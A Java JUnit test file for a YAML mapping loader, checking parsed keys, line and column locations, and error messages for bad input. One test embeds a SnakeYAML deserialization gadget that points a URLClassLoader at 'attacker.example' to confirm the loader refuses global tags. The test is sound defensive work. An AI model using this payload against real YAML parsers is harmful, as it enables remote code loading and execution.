package io.bannerbatch.mapping;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.bannerbatch.csv.InputProblem;
import io.bannerbatch.csv.Location;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class MappingFileTests {

	@TempDir
	Path work;

	@Nested
	class WhenTheMappingIsGood {

		@Test
		void readsEveryKeyWithItsLine() throws IOException {
			Path file = yaml("design: 5d5f6f6a-1b2c-4d3e-8f90-0123456789ab\n" + "key: sku\n"
					+ "formats: [facebook-feed, instagram-post, facebook-feed]\n" + "columns:\n"
					+ "  title: tb-text_0.payload\n" + "  \"photo url\": tb-image_0.image_url\n" + "constants:\n"
					+ "  root.background_color: \"#FFFFFF\"\n" + "  tb-text_0.font_size: 42\n");

			MappingFile.Spec spec = MappingFile.load(file);

			assertThat(spec.design()).isEqualTo("5d5f6f6a-1b2c-4d3e-8f90-0123456789ab");
			assertThat(spec.key()).isEqualTo("sku");
			assertThat(spec.formats()).containsExactly("facebook-feed", "instagram-post");
			assertThat(spec.columns()).containsExactly(Map.entry("title", new ElementProperty("tb-text_0", "payload")),
					Map.entry("photo url", new ElementProperty("tb-image_0", "image_url")));
			assertThat(spec.constants()).containsExactly(
					Map.entry(new ElementProperty("root", "background_color"), "#FFFFFF"),
					Map.entry(new ElementProperty("tb-text_0", "font_size"), "42"));
			assertThat(spec.location("design")).isEqualTo(new Location(file, 1, 9));
			assertThat(spec.location("columns.photo url")).isEqualTo(new Location(file, 6, 16));
			assertThat(spec.location("constants.tb-text_0.font_size")).isEqualTo(new Location(file, 9, 3));
		}

		@Test
		void takesFormatsAsACommaSeparatedValueToo() throws IOException {
			assertThat(MappingFile.load(yaml("formats: facebook-feed, instagram-post\n")).formats())
				.containsExactly("facebook-feed", "instagram-post");
		}

		@Test
		void keepsValuesAsWrittenRatherThanAsYamlTypes() throws IOException {
			MappingFile.Spec spec = MappingFile.load(yaml("key: 0012\nconstants: {tb-text_0.payload: 1e3}\n"));

			assertThat(spec.key()).isEqualTo("0012");
			assertThat(spec.constants()).containsValue("1e3");
		}

		@Test
		void anEmptyFileMapsNothing() throws IOException {
			MappingFile.Spec spec = MappingFile.load(yaml("# nothing yet\n"));

			assertThat(spec.columns()).isEmpty();
			assertThat(spec.constants()).isEmpty();
			assertThat(spec.design()).isNull();
			assertThat(spec.formats()).isEmpty();
		}

		@Test
		void neverConstructsTheTypesAFileNames() throws IOException {
			Path file = yaml("columns: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
					+ " [\"http://attacker.example/\"]]]]\n");

			// SnakeYAML 2 refuses global tags as it reads; the mapping never constructs objects in any case
			assertProblem(file, file + ": line 1, column 10: invalid YAML (Global tag is not allowed");
		}

	}

	@Nested
	class WhenTheMappingIsBad {

		@Test
		void aSyntaxErrorNamesItsLineAndColumn() throws IOException {
			Path file = yaml("columns:\n  title: tb-text_0.payload\n   photo: tb-image_0.image_url\n");

			assertProblem(file, file + ": line 3, column 9: invalid YAML (mapping values are not allowed here)");
		}

		@Test
		void anUnknownKeyNamesItsLineAndTheNearestKey() throws IOException {
			Path file = yaml("design: 5d5f6f6a-1b2c-4d3e-8f90-0123456789ab\ncolums:\n  title: tb-text_0.payload\n");

			assertProblem(file, file + ": line 2, column 1: unknown key \"colums\" (did you mean \"columns\"?); the keys are "
					+ "design, key, formats, columns, constants");
		}

		@Test
		void aKeyGivenTwiceNamesBothLines() throws IOException {
			Path file = yaml("columns:\n  title: tb-text_0.payload\n  title: tb-text_1.payload\n");

			assertProblem(file, file + ": line 3, column 3: \"columns.title\" is given twice (also on line 2); keep one");
		}

		@Test
		void aTargetThatIsNotElementDotPropertyNamesItsLine() throws IOException {
			Path file = yaml("columns:\n  title: payload\n");

			assertProblem(file, file + ": line 2, column 10: \"payload\" is not an element property; write it as "
					+ "element.property");
		}

		@Test
		void anUnquotedColourConstantIsACommentAndSaysSo() throws IOException {
			Path file = yaml("constants:\n  root.background_color: #FFFFFF\n");

			assertProblem(file, file + ": line 2, column 3: constants.root.background_color has no value",
					"quote a colour (\"#FFFFFF\")");
		}

		@Test
		void aListWhereOneValueBelongsNamesItsLine() throws IOException {
			Path file = yaml("key: sku\ndesign: [a, b]\n");

			assertProblem(file, file + ": line 2, column 9: \"design\" must be a single value");
		}

		@Test
		void aMapOfFormatsIsRefused() throws IOException {
			Path file = yaml("formats: {facebook-feed: 1}\n");

			assertProblem(file, file + ": line 1, column 10: \"formats\" must be a list of format names");
		}

		@Test
		void aTopLevelThatIsNotAMapListsTheKeys() throws IOException {
			Path file = yaml("sku,title\nA1,Hello\n");

			assertProblem(file, file + ": line 1, column 1: expected the keys design, key, formats, columns, constants");
		}

		@Test
		void aMissingFileSaysCheckMapping() {
			Path file = MappingFileTests.this.work.resolve("gone.yml");

			assertProblem(file, file + ": no such mapping file; check --mapping");
		}

		@Test
		void aFileThatIsNotUtf8SaysSo() throws IOException {
			Path file = Files.write(MappingFileTests.this.work.resolve("latin1.yml"),
					"columns:\n  caf\u00e9: tb-text_0.payload\n".getBytes(StandardCharsets.ISO_8859_1));

			assertProblem(file, file + ": the mapping file is not valid UTF-8; save it as UTF-8");
		}

	}

	private Path yaml(String content) throws IOException {
		return Files.writeString(this.work.resolve("mapping.yml"), content, StandardCharsets.UTF_8);
	}

	private static void assertProblem(Path file, String... fragments) {
		assertThatExceptionOfType(InputProblem.class).isThrownBy(() -> MappingFile.load(file))
			.satisfies((problem) -> assertThat(problem.getMessage()).contains(List.of(fragments)));
	}

}
